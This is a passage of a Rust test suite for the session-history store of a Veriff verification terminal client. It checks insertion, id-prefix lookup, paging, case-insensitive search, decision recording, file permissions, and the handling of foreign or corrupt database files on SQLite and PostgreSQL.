//! The history store against real SQLite files in temp dirs.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use chrono::{DateTime, Duration as ChronoDuration, TimeZone, Utc};
use veriff_tui::history::{IdMatch, NewRecord, Query, Record, Store, StoreError};
use veriff_tui::veriff::{CreatedSession, Decision, SessionInput, SessionStatus};

pub(crate) fn t(y: i32, m: u32, d: u32, h: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(y, m, d, h, 0, 0).unwrap()
}

pub(crate) struct Spec<'a> {
    first: &'a str,
    last: &'a str,
    vendor: &'a str,
    pub(crate) session_id: String,
    created: DateTime<Utc>,
    pub(crate) profile: &'a str,
}

/// Deterministic, unique ids (hex, no letters past f) so searches cannot hit them by chance.
fn next_session_id() -> String {
    static N: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(1);
    let n = N.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    // The counter in the letters a-f only (base 6): no digit a search looks for can come
    // from it, however many tests ran before in this process.
    let mut letters = String::new();
    let mut rest = n;
    while letters.len() < 12 {
        letters.insert(0, char::from(b'a' + (rest % 6) as u8));
        rest /= 6;
    }
    format!("cafe{}-0000-4000-8000-{letters}", &letters[8..])
}

pub(crate) fn spec(
    first: &'static str,
    last: &'static str,
    created: DateTime<Utc>,
) -> Spec<'static> {
    Spec {
        first,
        last,
        vendor: "",
        session_id: next_session_id(),
        created,
        profile: "test",
    }
}

pub(crate) fn add(store: &Store, s: &Spec<'_>) -> Record {
    let input = SessionInput {
        first_name: s.first.into(),
        last_name: s.last.into(),
        lang: "en".into(),
        selfid: true,
        callback: "https://example.com/cb".into(),
        vendor_data: s.vendor.into(),
        extra: Default::default(),
    };
    let session = CreatedSession {
        id: s.session_id.clone(),
        url: format!("https://alchemy.veriff.com/v/{}", s.session_id),
        host: Some("https://alchemy.veriff.com".into()),
        session_token: Some("eyJhbGciOiJIUzI1NiJ9.e30.sig".into()),
        vendor_data: None,
        status: Some("created".into()),
        created_at: s.created,
        expires_at: s.created + ChronoDuration::days(7),
    };
    store
        .insert(&NewRecord {
            profile: s.profile,
            base_url: "https://stationapi.veriff.com",
            sandbox: false,
            input: &input,
            session: &session,
        })
        .unwrap()
}

pub(crate) fn temp_store() -> (tempfile::TempDir, Store) {
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open(&dir.path().join("history.sqlite3")).unwrap();
    (dir, store)
}

/// Store tests that hold for both stores: each runs on a SQLite file in a temp dir
/// (`NAME::sqlite`) and on a database of its own on the test PostgreSQL server
/// (`NAME::postgres`; `support::pg`).
macro_rules! on_both_stores {
    ($($name:ident),* $(,)?) => {$(
        mod $name {
            #[test]
            fn sqlite() {
                let (_dir, store) = $crate::history::temp_store();
                super::$name(&store)
            }
            #[test]
            fn postgres() {
                let db = crate::support::pg::Database::new();
                super::$name(&db.store())
            }
        }
    )*};
}
/// By path too (`crate::history::on_both_stores!`), from modules declared before this one.
pub(crate) use on_both_stores;

on_both_stores!(
    insert_and_get_round_trip_every_field,
    prefix_lookup_needs_a_unique_prefix,
    any_prefix_is_matched_and_an_ambiguous_one_names_its_matches,
    pages_are_newest_first,
    extra_fields_round_trip_and_identifiers_are_searchable,
    search_matches_names_id_and_vendor_data_ignoring_case,
    decisions_are_recorded,
    delete_removes_only_that_row,
    pending_skips_final_and_expired_oldest_first,
    status_counts_treat_overdue_sessions_as_expired,
    per_day_fills_empty_days,
    first_page_and_count_agrees_with_page_and_count_up_to,
    a_page_found_by_reading_every_match_says_how_many_there_are,
    a_term_is_matched_whole_not_by_its_trigrams,
    every_csv_column_is_defused_not_only_the_typed_ones,
    searches_agree_with_a_plain_scan,
);

/// The same history opened again: the file, or the database (the test URLs hold no
/// password, so the URL as shown is the whole URL).
pub(crate) fn reopen(store: &Store) -> Store {
    if store.is_shared() {
        Store::open_url(store.path()).unwrap()
    } else {
        Store::open(Path::new(store.path())).unwrap()
    }
}

/// Runs `sql` on the store's database behind its back, as another program would.
fn write_behind(store: &Store, sql: &str) {
    if store.is_shared() {
        crate::support::pg::sql_on(store.path(), sql);
    } else {
        rusqlite::Connection::open(store.path())
            .unwrap()
            .execute_batch(sql)
            .unwrap();
    }
}

/// First names of the records found by `s`.
fn search(store: &Store, s: &str) -> Vec<String> {
    found(store, s).into_iter().map(|r| r.first_name).collect()
}

fn found(store: &Store, s: &str) -> Vec<Record> {
    store
        .page(&Query {
            search: Some(s.into()),
            limit: 50,
            ..Default::default()
        })
        .unwrap()
}

fn insert_and_get_round_trip_every_field(store: &Store) {
    let created =
        Utc.with_ymd_and_hms(2026, 3, 4, 5, 6, 7).unwrap() + ChronoDuration::microseconds(123_456);
    let input = SessionInput {
        first_name: "李小龍 Zoë".into(),
        last_name: "O'Brien-Ñúñez 👍".into(),
        lang: "pt-BR".into(),
        selfid: false,
        callback: "https://example.com/done?x=1".into(),
        vendor_data: "{\"order\": 42, \"emoji\": \"🧾\"}".into(),
        extra: Default::default(),
    };
    let session = CreatedSession {
        id: "a1b2c3d4-0000-4000-8000-000000000001".into(),
        url: "https://alchemy.veriff.com/v/token".into(),
        host: None,
        session_token: None,
        vendor_data: None,
        status: None,
        created_at: created,
        expires_at: created + ChronoDuration::days(7),
    };
    let rec = store
        .insert(&NewRecord {
            profile: "live",
            base_url: "https://stationapi.veriff.com/v1",
            sandbox: true,
            input: &input,
            session: &session,
        })
        .unwrap();
    assert_eq!(rec.first_name, "李小龍 Zoë");
    assert_eq!(rec.status, SessionStatus::Created);
    assert!(rec.sandbox && !rec.selfid);
    assert_eq!(
        rec.created_at.timestamp_millis(),
        created.timestamp_millis()
    );
    assert_eq!(store.get(rec.id).unwrap(), Some(rec.clone()));
    assert_eq!(
        store.find_by_session_id(&session.id).unwrap(),
        Some(rec.clone())
    );
    assert_eq!(
        store.find_by_session_id("a1b2c3d4").unwrap(),
        Some(rec.clone())
    );
    assert_eq!(store.find_by_session_id("zzzz").unwrap(), None);
    assert_eq!(store.get(rec.id + 1).unwrap(), None);

    // Reopening reads the same from disk (or the server).
    let store = reopen(store);
    assert_eq!(store.get(rec.id).unwrap(), Some(rec.clone()));

    // The same session twice is refused with a plain message; the first stays.
    let err = store
        .insert(&NewRecord {
            profile: "live",
            base_url: "x",
            sandbox: false,
            input: &input,
            session: &session,
        })
        .unwrap_err()
        .to_string();
    assert!(err.contains("already in the history"), "{err}");
    assert_eq!(store.count(&Query::default()).unwrap(), 1);
}

fn prefix_lookup_needs_a_unique_prefix(store: &Store) {
    let mut a = spec("A", "A", t(2026, 1, 1, 0));
    a.session_id = "abcd1111-0000-4000-8000-000000000000".into();
    let mut b = spec("B", "B", t(2026, 1, 1, 0));
    b.session_id = "abcd2222-0000-4000-8000-000000000000".into();
    add(store, &a);
    add(store, &b);
    assert_eq!(store.find_by_session_id("abcd").unwrap(), None, "ambiguous");
    assert_eq!(
        store
            .find_by_session_id("abcd2")
            .unwrap()
            .unwrap()
            .first_name,
        "B"
    );
    assert_eq!(
        store.find_by_session_id("abc").unwrap(),
        None,
        "ambiguous too"
    );
    assert_eq!(
        store.find_by_session_id("abce").unwrap(),
        None,
        "no such id"
    );
}

fn any_prefix_is_matched_and_an_ambiguous_one_names_its_matches(store: &Store) {
    let ids = [
        "abcd1111-0000-4000-8000-000000000000",
        "abcd2222-0000-4000-8000-000000000000",
        "abcd3333-0000-4000-8000-000000000000",
        "abcd4444-0000-4000-8000-000000000000",
        "b0000000-0000-4000-8000-000000000000",
    ];
    for id in ids {
        let mut s = spec("A", "A", t(2026, 1, 1, 0));
        s.session_id = id.into();
        add(store, &s);
    }
    let one = |p: &str| match store.match_session_id(p).unwrap() {
        IdMatch::One(r) => r.session_id,
        other => panic!("{p}: {other:?}"),
    };
    assert_eq!(one("b"), ids[4], "one character, unique");
    assert_eq!(one("abcd3"), ids[2]);
    assert_eq!(one(ids[1]), ids[1]);
    assert_eq!(store.match_session_id("c").unwrap(), IdMatch::None);
    assert_eq!(store.match_session_id("").unwrap(), IdMatch::None);
    assert_eq!(
        store.match_session_id("a").unwrap(),
        IdMatch::Many {
            count: 4,
            first: ids[..IdMatch::SHOWN]
                .iter()
                .map(|s| s.to_string())
                .collect(),
        }
    );
}

fn pages_are_newest_first(store: &Store) {
    let base = t(2026, 1, 1, 0);
    let mut ids = Vec::new();
    for i in 0..25 {
        // Inserted out of order; two share a timestamp (then the later row comes first).
        let created = base + ChronoDuration::minutes(((i * 7) % 25) as i64);
        ids.push((created, add(store, &spec("N", "N", created)).id));
    }
    let same = add(
        store,
        &spec("Same", "Time", base + ChronoDuration::minutes(24)),
    );
    ids.push((same.created_at, same.id));
    ids.sort_by(|a, b| b.cmp(a));
    let want: Vec<i64> = ids.iter().map(|(_, id)| *id).collect();

    let mut got = Vec::new();
    for page in 0..3 {
        let q = Query {
            offset: page * 10,
            limit: 10,
            ..Default::default()
        };
        got.extend(store.page(&q).unwrap().into_iter().map(|r| r.id));
    }
    assert_eq!(got, want);
    assert_eq!(got[0], same.id);

    // Keyset paging gives the same order.
    let mut keyset = Vec::new();
    let mut cursor = None;
    loop {
        let q = Query {
            limit: 4,
            ..Default::default()
        };
        let page = store.page_after(&q, cursor).unwrap();
        let Some(last) = page.last() else { break };
        cursor = Some(last.cursor());
        keyset.extend(page.iter().map(|r| r.id));
    }
    assert_eq!(keyset, want);
    assert_eq!(store.count(&Query::default()).unwrap(), 26);

    // Through a search (trigram index) too, by offset and by key.
    let mut by_offset = Vec::new();
    let mut by_key = Vec::new();
    let mut cursor = None;
    for page in 0..4 {
        let q = Query {
            search: Some("same tim".into()),
            offset: page,
            limit: 1,
            ..Default::default()
        };
        by_offset.extend(store.page(&q).unwrap().into_iter().map(|r| r.id));
        let next = store.page_after(&q, cursor).unwrap();
        if let Some(last) = next.last() {
            cursor = Some(last.cursor());
        }
        by_key.extend(next.into_iter().map(|r| r.id));
    }
    assert_eq!(by_offset, [same.id]);
    assert_eq!(by_key, [same.id]);
    let q = |offset| Query {
        search: Some("nnn".into()),
        offset,
        limit: 10,
        ..Default::default()
    };
    assert!(store.page(&q(0)).unwrap().is_empty());
    assert_eq!(
        store.page(&Query::default()).unwrap().len(),
        26,
        "limit 0 = all"
    );
}

/// The fields beyond the names are kept as sent, and a record is found by the person's
/// identifiers among them (id number, email, end-user id), by short and long terms alike,
/// but not by the others (a date of birth or an address is no way to look someone up).
fn extra_fields_round_trip_and_identifiers_are_searchable(store: &Store) {
    let day = t(2026, 2, 1, 0);
    add(store, &spec("Plain", "Row", day));
    let extra = veriff_tui::veriff::Extras {
        end_user_id: "3f2504e0-4f89-11d3-9a0c-0305e82c3301".into(),
        id_number: "38001085718".into(),
        date_of_birth: "1980-01-08".into(),
        gender: "F".into(),
        email: "Anna.Tamm@Example.com".into(),
        phone: "+37255551234".into(),
        document_number: "AB1234567".into(),
        document_type: "PASSPORT".into(),
        document_country: "EE".into(),
        address: "Narva mnt 5, Tallinn".into(),
        consents: vec!["ine".into(), "bipa".into()],
    };
    let input = SessionInput {
        first_name: "Anna".into(),
        extra: extra.clone(),
        ..Default::default()
    };
    let id = next_session_id();
    let session = CreatedSession {
        id: id.clone(),
        url: format!("https://alchemy.veriff.com/v/{id}"),
        host: None,
        session_token: None,
        vendor_data: None,
        status: None,
        created_at: day + ChronoDuration::hours(1),
        expires_at: day + ChronoDuration::days(7),
    };
    let rec = store
        .insert(&NewRecord {
            profile: "test",
            base_url: "https://stationapi.veriff.com",
            sandbox: false,
            input: &input,
            session: &session,
        })
        .unwrap();
    assert_eq!(rec.extra, extra);
    assert_eq!(store.get(rec.id).unwrap().unwrap().extra, extra);
    for term in [
        "38001085718",
        "8001",
        "18",
        "anna.tamm@example",
        "EXAMPLE.COM",
        "3f2504e0",
        "0305e82c3301",
        "anna 380010",
    ] {
        assert_eq!(search(store, term), ["Anna"], "{term}");
    }
    for term in ["Tallinn", "1980-01-08", "AB1234567", "bipa", "anna zzz"] {
        assert!(search(store, term).is_empty(), "{term}");
    }
    // Deleting the record takes it out of both indexes.
    assert!(store.delete(rec.id).unwrap());
    assert!(search(store, "38001085718").is_empty());
    assert!(search(store, "18").is_empty());
}

fn search_matches_names_id_and_vendor_data_ignoring_case(store: &Store) {
    let day = t(2026, 2, 1, 0);
    add(store, &spec("John", "Smith", day));
    add(
        store,
        &spec("Jane", "Smithers", day + ChronoDuration::hours(1)),
    );
    add(
        store,
        &spec("Zoë", "Ångström", day + ChronoDuration::hours(2)),
    );
    let mut v = spec("Vendor", "Row", day + ChronoDuration::hours(3));
    v.vendor = "customer-4711 50%_off";
    add(store, &v);
    let mut id = spec("Id", "Row", day + ChronoDuration::hours(4));
    id.session_id = "f00dfeed-1234-4abc-8def-0123456789ab".into();
    add(store, &id);
    let mut other = spec("Other", "Profile", day + ChronoDuration::hours(5));
    other.profile = "live";
    add(store, &other);

    assert_eq!(search(store, "smith"), ["Jane", "John"]);
    assert_eq!(search(store, "SMITHERS"), ["Jane"]);
    assert_eq!(
        search(store, "mit"),
        ["Jane", "John"],
        "substring, not prefix"
    );
    assert_eq!(search(store, "ÅNGSTRÖM"), ["Zoë"], "unicode case folding");
    assert_eq!(search(store, "zoë"), ["Zoë"]);
    assert_eq!(search(store, "4711"), ["Vendor"]);
    assert_eq!(search(store, "feed-1234"), ["Id"]);
    assert_eq!(search(store, "FOOD"), Vec::<String>::new());
    assert_eq!(
        search(store, "john smith"),
        ["John"],
        "every term must match"
    );
    assert_eq!(search(store, "\"quoted\" OR x"), Vec::<String>::new());
    // Short terms: a scan, still case-insensitive, wildcards taken literally.
    assert_eq!(search(store, "jo"), ["John"]);
    assert_eq!(search(store, "J"), ["Jane", "John"]);
    assert_eq!(search(store, "%_"), ["Vendor"]);
    assert_eq!(search(store, "_"), ["Vendor"]);
    assert_eq!(search(store, "%"), ["Vendor"]);
    assert_eq!(search(store, "jo %"), Vec::<String>::new());
    assert_eq!(
        search(store, "sm jane"),
        ["Jane"],
        "short and long terms mix"
    );
    assert_eq!(search(store, "   ").len(), 6, "blank search = everything");

    let q = Query {
        search: Some("row".into()),
        profile: None,
        batch: None,
        mine: false,
        offset: 0,
        limit: 1,
        ..Default::default()
    };
    assert_eq!(store.count(&q).unwrap(), 2);
    assert_eq!(store.page(&q).unwrap()[0].first_name, "Id");
    let q = Query {
        search: Some("o".into()),
        profile: Some("live".into()),
        ..Default::default()
    };
    assert_eq!(store.count(&q).unwrap(), 1);

    assert_eq!(store.count_up_to(&Query::default(), 4).unwrap(), 4);
    assert_eq!(store.count_up_to(&Query::default(), 100).unwrap(), 6);
    let smith = Query {
        search: Some("smith".into()),
        ..Default::default()
    };
    assert_eq!(store.count_up_to(&smith, 1).unwrap(), 1);
    assert_eq!(store.count_up_to(&smith, 0).unwrap(), 2, "0 = no cap");

    // The index follows deletes.
    let john = store
        .page(&Query {
            search: Some("john".into()),
            ..Default::default()
        })
        .unwrap();
    assert!(store.delete(john[0].id).unwrap());
    assert_eq!(search(store, "smith"), ["Jane"]);
}

fn decisions_are_recorded(store: &Store) {
    let now = Utc::now();
    let a = add(store, &spec("A", "A", now - ChronoDuration::hours(3)));
    let b = add(store, &spec("B", "B", now - ChronoDuration::hours(2)));
    let c = add(store, &spec("C", "C", now - ChronoDuration::hours(1)));

    let checked = now - ChronoDuration::minutes(5);
    store
        .record_check_error(&a.session_id, "timed out after 30 s")
        .unwrap();
    assert_eq!(
        store.get(a.id).unwrap().unwrap().check_error.as_deref(),
        Some("timed out after 30 s")
    );
    store.record_decision(&a.session_id, None, checked).unwrap();
    let got = store.get(a.id).unwrap().unwrap();
    assert_eq!(got.status, SessionStatus::Created);
    assert_eq!(
        got.checked_at.unwrap().timestamp_millis(),
        checked.timestamp_millis()
    );
    assert_eq!(got.check_error, None, "a successful check clears the error");

    let approve = Decision {
        status: SessionStatus::Approved,
        code: Some(9001),
        reason: None,
        reason_code: None,
        decision_time: Some("2026-01-01T10:00:00.000Z".into()),
        vendor_data: None,
    };
    store
        .record_decision(&a.session_id, Some(&approve), checked)
        .unwrap();
    let decline = Decision {
        status: SessionStatus::Declined,
        code: Some(9102),
        reason: Some("Physical document not used".into()),
        decision_time: Some("2026-01-02T10:00:00+00:00".into()),
        ..Default::default()
    };
    store
        .record_decision(&b.session_id, Some(&decline), checked)
        .unwrap();
    let started = Decision {
        status: SessionStatus::Started,
        code: Some(7001),
        ..Default::default()
    };
    store
        .record_decision(&c.session_id, Some(&started), checked)
        .unwrap();
    store
        .record_decision("not-in-history", Some(&approve), checked)
        .unwrap();

    let got = store.get(b.id).unwrap().unwrap();
    assert_eq!(got.status, SessionStatus::Declined);
    assert_eq!(got.decision_code, Some(9102));
    assert_eq!(
        got.decision_reason.as_deref(),
        Some("Physical document not used")
    );
    assert_eq!(
        got.decision_time.as_deref(),
        Some("2026-01-02T10:00:00+00:00")
    );

    let latest: Vec<String> = store
        .latest_decisions(None, 10)
        .unwrap()
        .into_iter()
        .map(|r| r.first_name)
        .collect();
    assert_eq!(
        latest,
        ["B", "A"],
        "newest decision first; started is no decision"
    );
    assert_eq!(store.latest_decisions(Some("live"), 10).unwrap(), vec![]);
    assert_eq!(store.latest_decisions(None, 1).unwrap().len(), 1);

    // Only C can still change.
    let pending: Vec<String> = store
        .pending(None, 10)
        .unwrap()
        .into_iter()
        .map(|r| r.first_name)
        .collect();
    assert_eq!(pending, ["C"]);
}

fn delete_removes_only_that_row(store: &Store) {
    let a = add(store, &spec("A", "A", t(2026, 1, 1, 0)));
    let b = add(store, &spec("B", "B", t(2026, 1, 1, 1)));
    assert!(store.delete(a.id).unwrap());
    assert!(!store.delete(a.id).unwrap());
    assert_eq!(store.get(a.id).unwrap(), None);
    assert_eq!(store.get(b.id).unwrap(), Some(b));
    assert_eq!(store.count(&Query::default()).unwrap(), 1);
}

fn pending_skips_final_and_expired_oldest_first(store: &Store) {
    let now = Utc::now();
    let expired = add(store, &spec("Old", "X", now - ChronoDuration::days(8)));
    let first = add(store, &spec("First", "X", now - ChronoDuration::days(3)));
    let second = add(store, &spec("Second", "X", now - ChronoDuration::days(1)));
    let mut live = spec("Live", "X", now - ChronoDuration::days(2));
    live.profile = "live";
    add(store, &live);
    let names = |v: Vec<Record>| v.into_iter().map(|r| r.first_name).collect::<Vec<_>>();
    assert_eq!(
        names(store.pending(None, 10).unwrap()),
        ["First", "Live", "Second"]
    );
    assert_eq!(
        names(store.pending(Some("test"), 10).unwrap()),
        ["First", "Second"]
    );
    assert_eq!(names(store.pending(None, 1).unwrap()), ["First"]);
    assert_eq!(expired.effective_status(now), SessionStatus::Expired);
    assert_eq!(first.effective_status(now), SessionStatus::Created);
    let review = Decision {
        status: SessionStatus::Review,
        ..Default::default()
    };
    store
        .record_decision(&second.session_id, Some(&review), now)
        .unwrap();
    assert_eq!(
        names(store.pending(Some("test"), 10).unwrap()),
        ["First", "Second"]
    );
    let approved = Decision {
        status: SessionStatus::Approved,
        ..Default::default()
    };
    store
        .record_decision(&second.session_id, Some(&approved), now)
        .unwrap();
    assert_eq!(names(store.pending(Some("test"), 10).unwrap()), ["First"]);
}

fn count_of(counts: &[(SessionStatus, u64)], s: &SessionStatus) -> u64 {
    counts.iter().find(|(x, _)| x == s).map_or(0, |(_, n)| *n)
}

fn status_counts_treat_overdue_sessions_as_expired(store: &Store) {
    let now = t(2026, 6, 10, 12);
    let mk = |name: &'static str, days_ago: i64, profile: &'static str| {
        let mut s = spec(name, "X", now - ChronoDuration::days(days_ago));
        s.profile = profile;
        add(store, &s)
    };
    let _fresh1 = mk("fresh1", 1, "test");
    let _fresh2 = mk("fresh2", 2, "live");
    let old_created = mk("old", 10, "test");
    let old_approved = mk("oldok", 10, "test");
    let started = mk("started", 3, "test");
    let _old_started = mk("oldstarted", 9, "test");
    let weird = mk("weird", 1, "test");
    let decide = |r: &Record, status: SessionStatus| {
        store
            .record_decision(
                &r.session_id,
                Some(&Decision {
                    status,
                    ..Default::default()
                }),
                now,
            )
            .unwrap()
    };
    decide(&old_approved, SessionStatus::Approved);
    decide(&started, SessionStatus::Started);
    decide(&weird, SessionStatus::parse("needs_coffee"));
    decide(&_old_started, SessionStatus::Started);

    let all = store.status_counts(None, now).unwrap();
    assert_eq!(count_of(&all, &SessionStatus::Created), 2);
    assert_eq!(count_of(&all, &SessionStatus::Started), 1);
    assert_eq!(count_of(&all, &SessionStatus::Approved), 1);
    assert_eq!(
        count_of(&all, &SessionStatus::Expired),
        2,
        "old created + old started"
    );
    assert_eq!(
        count_of(&all, &SessionStatus::Other("needs_coffee".into())),
        1
    );
    assert_eq!(all.iter().map(|(_, n)| n).sum::<u64>(), 7);
    assert_eq!(
        &all[..9].iter().map(|(s, _)| s.clone()).collect::<Vec<_>>(),
        &SessionStatus::ALL
    );

    let test = store.status_counts(Some("test"), now).unwrap();
    assert_eq!(count_of(&test, &SessionStatus::Created), 1);
    assert_eq!(test.iter().map(|(_, n)| n).sum::<u64>(), 6);

    // A delete and a later "now" move the counts.
    assert!(store.delete(old_created.id).unwrap());
    let later = store
        .status_counts(None, now + ChronoDuration::days(30))
        .unwrap();
    // Unknown statuses are not final either: they expire too.
    assert_eq!(count_of(&later, &SessionStatus::Expired), 5);
    assert_eq!(count_of(&later, &SessionStatus::Approved), 1);
    assert_eq!(
        later.len(),
        9,
        "an unknown status with no rows is not listed"
    );
}

fn per_day_fills_empty_days(store: &Store) {
    let now = t(2026, 3, 10, 15);
    for (d, h) in [(10, 0), (10, 14), (8, 23), (4, 1)] {
        add(store, &spec("x", "y", t(2026, 3, d, h)));
    }
    let mut live = spec("l", "y", t(2026, 3, 9, 5));
    live.profile = "live";
    add(store, &live);
    add(store, &spec("future", "y", t(2026, 3, 11, 1)));

    let days = store.per_day(None, 3, now).unwrap();
    let date = |d| chrono::NaiveDate::from_ymd_opt(2026, 3, d).unwrap();
    assert_eq!(days, vec![(date(8), 1), (date(9), 1), (date(10), 2)]);
    let test = store.per_day(Some("test"), 7, now).unwrap();
    assert_eq!(test.len(), 7);
    assert_eq!(test[0], (date(4), 1));
    assert_eq!(test[5], (date(9), 0));
    assert_eq!(test.iter().map(|(_, n)| n).sum::<u64>(), 4);
    assert!(store.per_day(None, 0, now).unwrap().is_empty());
}

#[test]
fn opening_twice_migrates_once() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("h.sqlite3");
    let a = Store::open(&path).unwrap();
    add(&a, &spec("A", "A", t(2026, 1, 1, 0)));
    let b = Store::open(&path).unwrap();
    assert_eq!(b.count(&Query::default()).unwrap(), 1);
    drop((a, b));
    let c = Store::open(&path).unwrap();
    assert_eq!(c.count(&Query::default()).unwrap(), 1);
    let raw = rusqlite::Connection::open(&path).unwrap();
    let version: i64 = raw
        .query_row("PRAGMA user_version", [], |r| r.get(0))
        .unwrap();
    assert_eq!(version, 10);
    let mode: String = raw
        .query_row("PRAGMA journal_mode", [], |r| r.get(0))
        .unwrap();
    assert_eq!(mode, "wal");
}

#[cfg(unix)]
#[test]
fn files_are_private() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("new").join("data");
    let path = data.join("history.sqlite3");
    let store = Store::open(&path).unwrap();
    add(&store, &spec("A", "A", t(2026, 1, 1, 0)));
    let mode = |p: &Path| fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&data), 0o700);
    assert_eq!(mode(&path), 0o600);
    let wal = data.join("history.sqlite3-wal");
    assert!(wal.exists());
    assert_eq!(mode(&wal), 0o600);
}

fn assert_refused_untouched(path: &Path) {
    let before = fs::read(path).unwrap();
    let listing_before = dir_listing(path.parent().unwrap());
    match Store::open(path) {
        Err(StoreError::NotOurs { path: p }) => {
            assert_eq!(p, path.display().to_string());
        }
        Err(e) => panic!("expected NotOurs, got {e}"),
        Ok(_) => panic!("expected NotOurs, it opened"),
    }
    let err = Store::open(path).unwrap_err().to_string();
    assert!(
        err.contains("--data-dir") && err.contains("left untouched"),
        "{err}"
    );
    assert_eq!(
        fs::read(path).unwrap(),
        before,
        "the file must be left byte for byte"
    );
    assert_eq!(
        dir_listing(path.parent().unwrap()),
        listing_before,
        "no -wal or -shm made"
    );
}

fn dir_listing(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

#[test]
fn garbage_is_not_ours_and_left_untouched() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("history.sqlite3");
    fs::write(&path, b"these are my notes, not a database\n").unwrap();
    assert_refused_untouched(&path);
    let mut junk = b"SQLite format 3\0".to_vec();
    junk.extend(std::iter::repeat_n(0xA5u8, 5000));
    fs::write(&path, &junk).unwrap();
    assert_refused_untouched(&path);
    fs::write(&path, b"SQLite").unwrap();
    assert_refused_untouched(&path);
}

#[test]
fn another_apps_database_is_not_ours_and_left_untouched() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("history.sqlite3");
    {
        let other = rusqlite::Connection::open(&path).unwrap();
        other
            .execute_batch(
                "CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT);
                 INSERT INTO notes (body) VALUES ('keep me');",
            )
            .unwrap();
    }
    assert_refused_untouched(&path);
    // Another app that even has a table called `sessions` and sets its own id.
    let path2 = dir.path().join("other.sqlite3");
    {
        let other = rusqlite::Connection::open(&path2).unwrap();
        other
            .execute_batch("PRAGMA application_id = 1234; CREATE TABLE sessions (x);")
            .unwrap();
    }
    assert_refused_untouched(&path2);
}

#[test]
fn our_file_when_corrupt_is_refused_and_left_untouched() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("history.sqlite3");
    {
        let store = Store::open(&path).unwrap();
        for i in 0..50 {
            add(
                &store,
                &spec("A", "B", t(2026, 1, 1, 0) + ChronoDuration::minutes(i)),
            );
        }
        // Checkpoint so every page is in the main file, then close.
        let raw = rusqlite::Connection::open(&path).unwrap();
        raw.execute_batch("PRAGMA wal_checkpoint(TRUNCATE);")
            .unwrap();
    }
    let mut bytes = fs::read(&path).unwrap();
    // Keep the header (so it still looks like ours) and wreck the schema page after it.
    for b in bytes.iter_mut().skip(100).take(3900) {
        *b = 0xEE;
    }
    fs::write(&path, &bytes).unwrap();
    let _ = fs::remove_file(dir.path().join("history.sqlite3-wal"));
    let _ = fs::remove_file(dir.path().join("history.sqlite3-shm"));
    match Store::open(&path) {
        Err(StoreError::Damaged { path: p, .. }) => assert_eq!(p, path.display().to_string()),
        Err(e) => panic!("expected Damaged, got {e}"),
        Ok(_) => panic!("a wrecked file opened"),
    }
    assert_eq!(fs::read(&path).unwrap(), bytes);
}

#[test]
fn a_newer_schema_is_refused_and_left_untouched() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("history.sqlite3");
    {
        let store = Store::open(&path).unwrap();
        add(&store, &spec("A", "B", t(2026, 1, 1, 0)));
    }
    {
        let raw = rusqlite::Connection::open(&path).unwrap();
        raw.execute_batch("PRAGMA user_version = 99; PRAGMA wal_checkpoint(TRUNCATE);")
            .unwrap();
    }
    let before = fs::read(&path).unwrap();
    let err = Store::open(&path).unwrap_err().to_string();
    assert!(
        err.contains("newer veriff-tui") && err.contains("99"),
        "{err}"
    );
    assert_eq!(fs::read(&path).unwrap(), before);
}

#[test]
fn move_aside_makes_room_for_a_new_history() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("history.sqlite3");
    fs::write(&path, b"not ours").unwrap();
    assert!(Store::open(&path).is_err());
    let moved = veriff_tui::history::move_aside(&path).unwrap();
    assert_eq!(fs::read(&moved).unwrap(), b"not ours");
    let store = Store::open(&path).unwrap();
    assert_eq!(store.count(&Query::default()).unwrap(), 0);
}

#[test]
fn a_long_lock_is_reported_as_locked() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("history.sqlite3");
    let store = Store::open_with_timeout(&path, Duration::from_millis(200)).unwrap();
    let holder = rusqlite::Connection::open(&path).unwrap();
    holder.execute_batch("BEGIN IMMEDIATE;").unwrap();
    let started = Instant::now();
    let input = SessionInput::default();
    let session = CreatedSession {
        id: "x".into(),
        url: "https://x".into(),
        host: None,
        session_token: None,
        vendor_data: None,
        status: None,
        created_at: Utc::now(),
        expires_at: Utc::now(),
    };
    let err = store
        .insert(&NewRecord {
            profile: "p",
            base_url: "b",
            sandbox: false,
            input: &input,
            session: &session,
        })
        .unwrap_err();
    assert!(matches!(err, StoreError::Locked { .. }), "{err}");
    assert!(
        started.elapsed() >= Duration::from_millis(150),
        "it waited first"
    );
    holder.execute_batch("ROLLBACK;").unwrap();
    assert_eq!(store.count(&Query::default()).unwrap(), 0);
}

#[test]
fn main_queries_use_indexes() {
    let (_dir, store) = temp_store();
    let plans = [
        "SELECT id FROM sessions ORDER BY created_at DESC, id DESC LIMIT 10",
        "SELECT id FROM sessions WHERE profile = ? ORDER BY created_at DESC, id DESC LIMIT 10",
        "SELECT id FROM sessions WHERE (created_at, id) < (?, ?) ORDER BY created_at DESC, id DESC LIMIT 10",
        "SELECT id FROM sessions WHERE session_id = ?",
        "SELECT id FROM sessions INDEXED BY sessions_pending WHERE expires_at > ? AND status NOT IN ('approved') AND profile = ? ORDER BY created_at, id LIMIT 5",
        "SELECT status, COUNT(*) FROM sessions INDEXED BY sessions_pending WHERE expires_at > ? AND status NOT IN ('approved') GROUP BY status",
        "SELECT id FROM sessions WHERE session_id >= ? AND session_id < ? LIMIT 2",
        "SELECT id FROM sessions WHERE decided_at IS NOT NULL ORDER BY decided_at DESC, id DESC LIMIT 5",
        "SELECT id FROM sessions WHERE decided_at IS NOT NULL AND profile = ? ORDER BY decided_at DESC, id DESC LIMIT 5",
